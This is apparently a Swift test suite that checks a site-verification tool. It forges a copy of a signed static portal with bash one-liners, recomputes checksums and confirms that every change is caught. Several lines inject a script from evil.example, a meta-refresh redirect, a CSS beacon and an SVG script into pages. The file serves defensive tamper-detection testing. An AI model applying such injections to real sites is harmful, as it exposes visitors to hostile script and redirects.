import CommandTestSupport
import TestSupport
import Testing
import ToolTestSupport

/// Changes of a built site that someone without the keys can make, with all check sums made again.
@Suite struct IndexForgeryTests {
  /// Each line of bash changes a copy of the site; a reader with only the root finds all of them.
  private static let changes = [
    ("script", "echo ';document.title=1' >> app/portal-*.js"),
    ("key in a page", "sed -i 's/d435/dead/' n/westend/index.html"),
    (
      "script of another host",
      "sed -i 's|</head>|<script src=\"https://evil.example/x.js\"></script></head>|' index.html"
    ),
    ("inline script", "sed -i 's|</head>|<script>1</script></head>|' index.html"),
    ("no policy", "sed -i 's/Content-Security-Policy/X-Nothing/' n/westend/index.html"),
    ("headers", "sed -i 's/Content-Security-Policy/X-Nothing/' _headers"),
    ("style", "echo 'body{background:url(https://evil.example/t)}' >> app/style-*.css"),
    (
      "redirect",
      "sed -i 's|</head>|<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"/></head>|' 404.html"
    ),
    ("feed", "sed -i 's/metadata.example.org/metadata.evil.org/' feed.atom"),
    ("own icon", "sed -i 's|</svg>|<script>alert(1)</script></svg>|' icons/portal.svg"),
    ("code in the status", "echo 'evil()' >> status.js"),
    ("state of a network", "sed -i 's/\"state\": \"[a-z]*\"/\"state\": \"current\"/' status.json"),
    ("key in the feed", "sed -i 's/\"signedBy\": \"[^\"]*\"/\"signedBy\": \"Other\"/' data.json"),
    ("payload script", "echo 'evil()' >> $(ls payload/*.js | head -1)"),
    ("another page", "cp index.html evil.html"),
    ("another program", "cp app/portal-*.js sw.js"),
    ("icon of a network", "sed -i 's|</svg>|<a/></svg>|' icons/westend.svg"),
    ("other picture", "cp qr/westend_metadata_9150.apng qr/westend_metadata_9220.apng"),
    ("no picture", "rm qr/westend_specs.png"),
    ("data of the pages", "sed -i 's/Test portal/Real portal/' site.json"),
    ("service worker", "echo '1' >> service-worker.js"),
    ("record of a network", "sed -i 's/d435/dead/' n/westend/network.json"),
    ("file in the index", "echo '{}' > tuf/9.root.jsonx"),
    ("status of no network", "mkdir n/evil; cp status.js n/evil/status.js"),
    ("whole site without index", "rm -r tuf"),
    ("older root removed", "rm tuf/1.root.json"),
    ("link", "rm data.json; ln -s feeds/data-parity.json data.json"),
  ]

  @Test func everyChangeIsFoundWithTheRootAlone() throws {
    let portal = try IndexedPortal()
    #expect(try portal.check().exitCode == 0)
    for (name, script) in Self.changes {
      try portal.copy("forged")
      try portal.shell("cd forged; \(script)")
      let run = try ProcessRunner.run(
        "/usr/bin/diff", ["-rq", "site", "forged"], folder: portal.tool.folder.path)
      try #require(run.exitCode == 1, "\(name) changes nothing")
      try portal.sum("forged")
      let check = try portal.check("forged", "--json")
      let isMissing =
        name == "no picture" || name == "whole site without index" || name == "older root removed"
      #expect(
        check.exitCode == (isMissing ? 66 : 77) || (isMissing && check.exitCode == 77),
        "\(name): \(check)")
      #expect(try !IndexedPortal.findings(check).isEmpty, "\(name)")
    }
  }

  @Test func oneChangedByteOfEachFileIsFound() throws {
    let portal = try IndexedPortal()
    try portal.copy("forged")
    var random = SplitMix64(seed: 57)
    for path in try portal.files() {
      let file = portal.tool.folder.file("forged/\(path)")
      let bytes = try portal.tool.bytes(file)
      guard !bytes.isEmpty else { continue }
      var other = bytes
      other[Int.random(in: bytes.indices, using: &random)] ^= UInt8.random(
        in: 1...255, using: &random)
      try portal.tool.folder.write(other, to: "forged/\(path)")
      if path != "SHA256SUMS" { try portal.sum("forged") }
      let run = try portal.check("forged", "--json")
      #expect([65, 66, 77].contains(run.exitCode), "\(path): \(run)")
      try portal.tool.folder.write(bytes, to: "forged/\(path)")
      try portal.sum("forged")
    }
    #expect(try portal.check("forged").exitCode == 0)
  }
}
